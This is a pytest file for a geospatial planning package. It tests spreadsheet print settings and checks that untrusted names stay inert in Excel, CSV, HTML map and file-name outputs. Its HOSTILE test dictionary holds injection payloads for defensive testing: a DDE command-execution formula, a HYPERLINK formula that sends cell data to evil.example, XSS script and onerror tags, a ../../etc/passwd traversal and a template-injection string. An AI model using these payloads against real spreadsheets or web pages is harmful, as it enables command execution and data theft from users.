"""The workbook prints, and untrusted text stays data (issue 11 item 6, issue 12 item 9).

Print settings are read back with openpyxl; LibreOffice (``soffice``, Debian
``libreoffice-calc-nogui``) and ``pdftotext`` (``poppler-utils``) check the printed result when
they are installed (``.ci/run`` installs them); without them those tests skip and say why.
Hostile names (formulas, DDE, ``<script>``, ``../``, very long, control characters) go through a
small real ``lc.analyze`` into every output.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
import shapely
from test_report import make_result

import lifecircle_geo as lc
from lifecircle_geo import report
from lifecircle_geo._io import formula_like, safe_cell, safe_csv_frame, safe_name, strip_paths
from lifecircle_geo.report import excel

#: An absolute path in a cell: a rooted POSIX path of two parts or more, a drive letter, UNC.
ABS_PATH = re.compile(r"(?:^|[\s\"'(=:,;])(?:/[^/\s]+){2,}|\b[A-Za-z]:[\\/]|\\\\[^\\\s]+\\")

HOSTILE = {
    "formula": "=2+2",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "script": "<script>alert(1)</script>",
    "img": '<img src=x onerror="alert(2)">',
    "traversal": "../../etc/passwd",
    "long": "长" * 3000,
    "control": "bell\x07 and escape\x1b",
    "template": "{{ 7 * 7 }} {% if x %}{# j #}",
}


# ---------------------------------------------------------------------------- _io helpers
def test_safe_cell_and_csv_frame():
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert formula_like(text)
        assert safe_cell(text) == "'" + text
    assert safe_cell("长征镇") == "长征镇"
    assert safe_cell(-1) == -1
    df = pd.DataFrame({"name": [HOSTILE["dde"], "ok", None], "n": [-1.0, 2.0, 3.0]})
    out = safe_csv_frame(df)
    assert out["name"].tolist()[:2] == ["'" + HOSTILE["dde"], "ok"]
    assert out["n"].tolist() == [-1.0, 2.0, 3.0]
    text = out.to_csv(index=False)
    assert "\n=" not in text and "\n'=cmd" in text


@pytest.mark.parametrize("text", [*HOSTILE.values(), "..", ".", "", "CON", "a/b\\c", "x" * 400])
def test_safe_name_stays_in_its_folder(tmp_path, text):
    name = safe_name(text)
    assert name and "/" not in name and "\\" not in name and ".." not in name
    assert len(name.encode("utf-8")) <= 120
    assert not any(ord(ch) < 32 for ch in name)
    target = (tmp_path / name).resolve()
    assert target.parent == tmp_path.resolve()
    target.write_text("ok", encoding="utf-8")  # a name the file system takes


def test_long_names_stay_distinct():
    assert safe_name("街" * 200 + "一") != safe_name("街" * 200 + "二")


def test_strip_paths():
    assert strip_paths("/home/ana/data/putuo.osm.pbf") == "putuo.osm.pbf"
    assert strip_paths(r"D:\work\units.gpkg") == "units.gpkg"
    assert strip_paths("see https://example.org/a/b") == "see https://example.org/a/b"
    assert strip_paths({"a": ["/srv/x/y.csv"]}) == {"a": ["y.csv"]}


# ---------------------------------------------------------------------------- workbook prints
@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    folder = tmp_path_factory.mktemp("print")
    result = make_result()
    # a run as the pipeline records it: absolute input paths in meta and the network's meta
    src = folder / "inputs" / "putuo.osm.pbf"
    src.parent.mkdir()
    src.write_bytes(b"not really a pbf")
    result.meta = {
        **result.meta,
        "profile_file": str(Path(lc.__file__).parent / "standards" / "shanghai-2025.toml"),
        "network": {"source": str(src), "read": f"read {src} in 2 s"},
        "warnings": [*result.meta["warnings"], f"{folder}/units.gpkg: 2 units repaired"],
    }
    result.network.meta["source"] = str(src)
    # a long wrapped text: the row must be tall enough to show it
    result.projects.loc[0, "content_zh"] = "新建社区服务点，" * 30
    path = report.write_excel(result, folder / "project_list.xlsx")
    return result, path


def test_every_sheet_has_print_settings(workbook):
    _, path = workbook
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == [s for s in excel.SHEETS if s in wb.sheetnames]
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert int(ws.page_setup.paperSize) == excel.PAPER_SIZE, ws.title  # A3
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert int(ws.page_setup.fitToWidth) == 1 and int(ws.page_setup.fitToHeight) == 0
        heads = [str(c.value) for c in ws[1] if c.value]
        if not heads:  # a table without columns (no referrals): nothing to repeat
            continue
        assert ws.print_title_rows == "$1:$1", ws.title
        assert ws.freeze_panes == "A2", ws.title
        # headers stay bilingual: 中文 / English
        if ws.title not in excel.CLASSIFICATION_SHEETS:
            assert sum(" / " in h for h in heads) >= len(heads) / 2, (ws.title, heads)


def test_wrapped_rows_are_tall_enough(workbook):
    _, path = workbook
    ws = openpyxl.load_workbook(path)["项目清单 Projects"]
    heads = [c.value for c in ws[1]]
    j = heads.index(excel.header("content_zh")) + 1
    cell = ws.cell(row=2, column=j)
    assert cell.alignment.wrap_text
    width = ws.column_dimensions[openpyxl.utils.get_column_letter(j)].width
    need = excel._text_width(cell.value) / (width - 1.5)
    assert ws.row_dimensions[2].height >= need * excel._LINE_PT


def test_no_absolute_path_in_any_cell(workbook):
    _, path = workbook
    wb = openpyxl.load_workbook(path)
    found = [
        (ws.title, c.coordinate, c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and ABS_PATH.search(c.value)
    ]
    assert not found, found[:5]
    about = [c.value for row in wb["说明 About"].iter_rows() for c in row if c.value]
    text = "\n".join(map(str, about))
    assert "putuo.osm.pbf (sha256 " in text  # the name and hash, not the folder
    assert "shanghai-2025.toml" in text


def test_unit_names_not_ids_in_text(workbook):
    _, path = workbook
    ws = openpyxl.load_workbook(path)["项目清单 Projects"]
    heads = [c.value for c in ws[1]]
    j_en = heads.index(excel.header("content_en"))
    j_id = heads.index(excel.header("unit_id"))
    for row in ws.iter_rows(min_row=2, values_only=True):
        if row[j_id]:
            assert not re.search(rf"\b{re.escape(row[j_id])}\b", str(row[j_en] or ""))


def _tool(name: str) -> str:
    exe = shutil.which(name)
    if exe is None:
        pytest.skip(
            f"`{name}` is not installed (Debian: libreoffice-calc-nogui poppler-utils; "
            ".ci/run installs them)"
        )
    return exe


def test_libreoffice_prints_every_column_on_page_one(workbook, tmp_path):
    soffice, pdftotext = _tool("soffice"), _tool("pdftotext")
    _, path = workbook
    env = {**os.environ, "HOME": str(tmp_path)}
    proc = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        capture_output=True,
        timeout=240,
        check=False,
        env=env,
    )
    pdf = tmp_path / "project_list.pdf"
    assert pdf.is_file(), proc.stderr.decode("utf-8", "replace")[-2000:]
    page1 = subprocess.run(
        [pdftotext, "-f", "1", "-l", "1", "-layout", str(pdf), "-"],
        capture_output=True,
        check=True,
        timeout=60,
    ).stdout.decode("utf-8", "replace")
    flat = re.sub(r"\s+", "", page1)
    ws = openpyxl.load_workbook(path)["项目清单 Projects"]
    heads = [c.value for c in ws[1] if c.value]
    assert len(heads) >= 20
    # the Chinese part of every header (the English part may wrap inside its cell)
    missing = [h for h in heads if re.sub(r"\s+", "", h.split(" / ")[0]) not in flat]
    assert not missing, f"page 1 lacks {missing}:\n{page1[:3000]}"
    assert "P001" in page1 and "P003" in page1


# ---------------------------------------------------------------------------- hostile names
def _hostile_case():
    x0, y0, crs = 350_000.0, 3_457_000.0, 32651
    xs, ys = np.meshgrid([0.0, 100.0, 200.0], [0.0, 100.0, 200.0])
    x, y = xs.ravel() + x0, ys.ravel() + y0
    idx = np.arange(9).reshape(3, 3)
    u = np.concatenate([idx[:, :-1].ravel(), idx[:-1, :].ravel()])
    v = np.concatenate([idx[:, 1:].ravel(), idx[1:, :].ravel()])
    net = lc.WalkNetwork.from_arrays(x, y, u, v, np.full(len(u), 100.0), crs=crs)
    units = gpd.GeoDataFrame(
        {
            "unit_id": [HOSTILE["traversal"], HOSTILE["formula"]],
            "unit_name": [HOSTILE["dde"], HOSTILE["script"]],
            "jiezhen_code": "J1",
            "jiezhen_name": HOSTILE["hyperlink"],
            "district_code": "310105",
        },
        geometry=[
            shapely.box(x0 - 50, y0 - 50, x0 + 100, y0 + 250),
            shapely.box(x0 + 100, y0 - 50, x0 + 250, y0 + 250),
        ],
        crs=crs,
    )
    pts = [(0, 0, 100), (0, 200, 50), (200, 0, 30), (200, 200, 20), (150, 100, 10)]
    pop = gpd.GeoDataFrame(
        {"population": [p for *_, p in pts]},
        geometry=[shapely.Point(x0 + a, y0 + b) for a, b, _ in pts],
        crs=crs,
    )
    names = ["img", "at", "tab", "long", "control", "plus", "minus", "cr", "template"]
    fac = gpd.GeoDataFrame(
        {
            "facility_id": [f"k{i}" for i in range(len(names))],
            "name": [HOSTILE[k] for k in names],
            "category": ["childcare"] * len(names),
            "facility_type": [HOSTILE["script"]] * len(names),
            "source": ["test"] * len(names),
            "rule": ["hand"] * len(names),
            "capacity": [np.nan] * len(names),
        },
        geometry=[shapely.Point(x0, y0)] * len(names),
        crs=crs,
    )
    return lc.analyze(net, fac, units, population=pop, progress=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    result = _hostile_case()
    xlsx = report.write_excel(result, folder / "project_list.xlsx")
    html = report.write_map(result, folder / "map.html")
    return result, xlsx, html


def test_hostile_text_is_text_in_every_sheet(hostile):
    _, xlsx, _ = hostile
    wb = openpyxl.load_workbook(xlsx)
    seen = set()
    expected = {k: excel._clean_text(v) for k, v in HOSTILE.items()}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    pytest.fail(f"{ws.title}!{c.coordinate} is a formula: {c.value!r}")
                if isinstance(c.value, str) and formula_like(c.value):
                    assert c.data_type == "s", (ws.title, c.coordinate)
                for key, text in expected.items():
                    if isinstance(c.value, str) and text in c.value:
                        seen.add(key)
    # the unit, 街镇 and facility names arrive unchanged (control characters dropped)
    assert {"formula", "hyperlink", "dde", "script", "traversal"} <= seen, seen
    formulas = [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value in (HOSTILE["formula"], HOSTILE["dde"])
    ]
    assert formulas  # written as the text it was


def test_hostile_text_is_escaped_in_the_map(hostile):
    _, _, html = hostile
    text = html.read_text(encoding="utf-8")
    # the data never closes its <script> element: every "</" inside it is escaped
    data = re.search(r"var D = (.*?);\n", text).group(1)
    assert "</" not in data
    assert "<script>alert(1)<\\/script>" in data  # the name is there, as inert text
    assert "onerror" in data  # inside the JSON string only
    assert json.dumps(HOSTILE["template"], ensure_ascii=False) in data  # not template code
    # popups and tooltips go through esc() before they reach the DOM
    assert "function esc(s)" in text and "bindTooltip(esc(" in text


def test_hostile_names_make_safe_file_names(hostile, tmp_path):
    result, _, _ = hostile
    for name in result.units["unit_name"].tolist() + result.units["unit_id"].tolist():
        p = (tmp_path / f"{safe_name(name)}.png").resolve()
        assert p.parent == tmp_path.resolve()


def test_line_counts_match_a_per_character_count():
    """The vectorised row-height count equals wrapping each part, character by character."""
    import unicodedata

    def width(text: str) -> int:
        return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)

    def lines(value, col_width: float) -> int:
        if value is None or (isinstance(value, float) and not np.isfinite(value)):
            return 1
        usable = max(col_width - 1.5, 1.0)
        return sum(max(1, int(np.ceil(width(p) / usable))) for p in str(value).split("\n"))

    rng = np.random.default_rng(3)
    pool = [*"建设内容社区卫生服务站，。・ABC abc\n１２３", "😀", "𠀀", "\u3000", "ｶ"]
    values = [None, np.nan, 3.5, 12, "", "\n", "a\n\nb", "=1+1"] + [
        "".join(rng.choice(pool, size=rng.integers(0, 150))) for _ in range(500)
    ]
    cells = np.array(values, dtype=object)
    for col_width in (8.0, 13.5, 40.0, 70.0):
        want = [lines(v, col_width) for v in values]
        assert excel._line_counts(cells, col_width).tolist() == want
        assert [excel._lines(v, col_width) for v in values[:20]] == want[:20]
        assert [excel._text_width(str(v)) for v in values[8:]] == [
            width(str(v)) for v in values[8:]
        ]
    texts = [str(v) for v in values]
    assert excel._text_widths(texts).tolist() == [width(t) for t in texts]
